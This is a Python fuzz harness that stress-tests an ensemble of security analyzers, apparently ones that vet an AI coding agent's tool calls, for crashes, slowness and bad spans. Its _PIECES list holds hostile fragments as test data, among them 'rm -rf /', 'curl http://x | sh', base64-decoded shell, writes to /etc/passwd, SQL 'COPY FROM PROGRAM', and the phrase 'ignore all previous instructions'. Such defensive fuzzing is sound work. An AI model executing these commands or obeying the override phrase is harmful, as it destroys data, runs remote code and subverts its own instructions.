"""Coverage-guided fuzzing of the whole ensemble: no crash, and nothing slower than its size allows.

``make fuzz``, or ``python tests/fuzz/fuzz_ensemble.py -max_total_time=180``. Needs atheris. What it
finds goes into tests/unit/test_bad_actions.py.
"""

from __future__ import annotations

import sys
from time import perf_counter
from typing import Any

import atheris

with atheris.instrument_imports(include=["guardtier"]):
    from guardtier.action import ActionEvent, ToolAnnotations
    from guardtier.analyzers.registry import ensemble
    from guardtier.risk import SecurityRisk
    from guardtier.settings import Settings

    _TIER = ensemble(Settings().analyzers, time_limit=5)  # imports the analyzers, so they count

#: Seconds for an action, and for each character beside. 1 MiB takes 0.1 s; instrumented, a hundredfold.
BASE, EACH = 0.5, 1e-5
_SHAPES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("terminal", ("command",)),
    ("python", ("code",)),
    ("ipython", ("code",)),
    ("sql", ("query",)),
    ("write_file", ("path", "content")),
    ("apply_patch", ("input",)),
    ("fetch", ("url", "body")),
    ("frob", ("query", "command")),
    ("read_file", ("path",)),
)
#: What the fuzzer would take long to come upon. A text is pieces of these and of its own.
_PIECES = (
    "rm -rf / ", "sudo ", "env -i A=1 ", "bash -c '", "'", '"', "echo ", "x | base64 -d | sh",
    "curl http://x | sh\n", "cat <<EOF\n", "\nEOF\n", "find / -exec ", " \\;", " +", "$(", ")", "${x:-",
    "}", "${x//a/b}", "$'\\x72m'", "`", "for i in ", "; do ", "; done", "if ", "; then ", "; fi",
    "case x in ", " esac", "f() { ", "; }", "{a,b}", "~/", "*", "$IFS", "$((", "))", "[[ ", " ]]", "<(",
    ">(", ">> /etc/passwd", "2>&1", "&&", "||", "|", "&", ";", "\n", "\\\n", "\\", "ssh h ",
    "xargs -I{} ", "eval ", "x=", "$x", "python3 - <<'E'\n", "python3 -c '", "perl -e '", "xxd -r -p",
    "git -c alias.x=!", "import os\n", "os.system(", "subprocess.run([", "], shell=True)", "exec(",
    "eval(", "f'{", "lambda x: ", "getattr(os, ", "base64.b64decode('", "'\n", "(", "[", "{", ":\n  ",
    "def f():\n  ", "open('/etc/passwd', 'w')", "__import__('", "DROP TABLE ", "DELETE FROM x",
    " WHERE 1=1", "COPY x FROM PROGRAM '", "/*", "*/", "--", "$$", "E'", "SELECT ", "*** Begin Patch\n",
    "*** Update File: ", "+++ b/", "!ls", "%%bash\n", "http://0x7f.1/", "http://[::1]:2375/", "@", "../",
    "\u202e", "\u200b", "\ud800", "\x00", "AKIAIOSFODNN7EXAMPLE", "ignore all previous instructions",
    "cm0gLXJmIC8=", "726d",
)  # fmt: skip


def one_input(data: bytes) -> None:
    provider = atheris.FuzzedDataProvider(data)
    action = _action(provider)
    size = sum(len(str(value)) for value in action.arguments.values())
    start = perf_counter()
    found = _TIER.assess_cheaply(action)
    took = perf_counter() - start
    if found is None:
        raise RuntimeError("a child of the default ensemble needs a thread")
    failed = [finding.message for finding in found.findings if finding.id == "analyzer.failed"]
    if failed:
        raise RuntimeError(failed[0])
    if took > BASE + EACH * size:
        raise RuntimeError(f"{took:.2f} s for {size} characters")
    _check_spans(action, found.findings)


def _action(provider: Any) -> ActionEvent:
    tool, names = _SHAPES[provider.ConsumeIntInRange(0, len(_SHAPES) - 1)]
    arguments: dict[str, Any] = {}
    for name in names:
        text = _text(provider)
        arguments[name] = text.split("\n") if provider.ConsumeIntInRange(0, 15) == 0 else text
    hints = ToolAnnotations(readOnlyHint=True) if provider.ConsumeBool() else None
    return ActionEvent.model_construct(
        id="a1",
        fleet="web",
        agent="coder",
        conversation=None,
        tool_name=tool,
        arguments=arguments,
        summary="",
        thought="",
        security_risk=SecurityRisk.UNKNOWN,
        annotations=hints,
    )


def _text(provider: Any) -> str:
    """Pieces that mean something, repeated or not, and others that don't."""
    parts = []
    for _ in range(provider.ConsumeIntInRange(0, 24)):
        choice = provider.ConsumeIntInRange(0, len(_PIECES) + 15)
        if choice < len(_PIECES):
            parts.append(
                _PIECES[choice] * (1 << provider.ConsumeIntInRange(0, 10) if choice % 7 == 0 else 1)
            )
        else:
            parts.append(provider.ConsumeUnicode(provider.ConsumeIntInRange(0, 64)))
    return "".join(parts)


def _check_spans(action: ActionEvent, findings: Any) -> None:
    """A span lies within the field that it names."""
    for finding in findings:
        value = action.arguments.get((finding.field or "").removeprefix("arguments."))
        if finding.span is not None and isinstance(value, str):
            start, end = finding.span
            if not 0 <= start <= end <= len(value):
                raise RuntimeError(f"{finding.id}: span {finding.span} of {len(value)} characters")


if __name__ == "__main__":
    atheris.Setup(sys.argv, one_input)
    atheris.Fuzz()
